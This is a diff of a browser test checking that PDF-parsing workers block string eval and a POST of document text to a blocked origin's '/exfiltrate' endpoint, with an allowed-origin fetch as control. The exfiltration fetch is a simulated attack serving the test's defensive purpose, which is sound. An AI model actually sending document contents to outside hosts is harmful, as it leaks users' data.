@@ -69,8 +69,11 @@ test("inside the workers that parse PDFs, string-eval is blocked and so is a fet
       return {
         eval: await attempt(() => (0, eval)("6 * 7")),
         newFunction: await attempt(() => new Function("return 6 * 7")()),
-        blocked: await attempt(async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status),
-        // Control: the same fetch to an allowed origin is answered, so the failure above is the policy, not the network.
+        blocked: await attempt(
+          async () => (await fetch(`${blocked}/exfiltrate`, { method: "POST", body: "document text" })).status,
+        ),
+        // Control: the same fetch to an allowed origin is answered, so the failure above is the
+        // policy, not the network.
         allowed: await attempt(async () => (await fetch(`${allowed}/v1/models`)).status),
       };
     }, [BLOCKED, ALLOWED]);
@@ -81,7 +84,7 @@ test("inside the workers that parse PDFs, string-eval is blocked and so is a fet
   expect(workers.some((w) => /pdf\.worker/.test(w.url()))).toBe(true);
   expect(reached.filter((u) => u.startsWith(BLOCKED))).toEqual([]);
   // Only the reading worker (model calls) reached the allowed origin: so route interception works in workers.
-  expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(workers.filter((w) => /index-worker/.test(w.url())).length);
+  expect(reached.filter((u) => u.startsWith(ALLOWED)).length).toBe(workers.filter((w) => /reading-worker/.test(w.url())).length);
   expect(reached.length).toBeGreaterThan(0);
 });
 
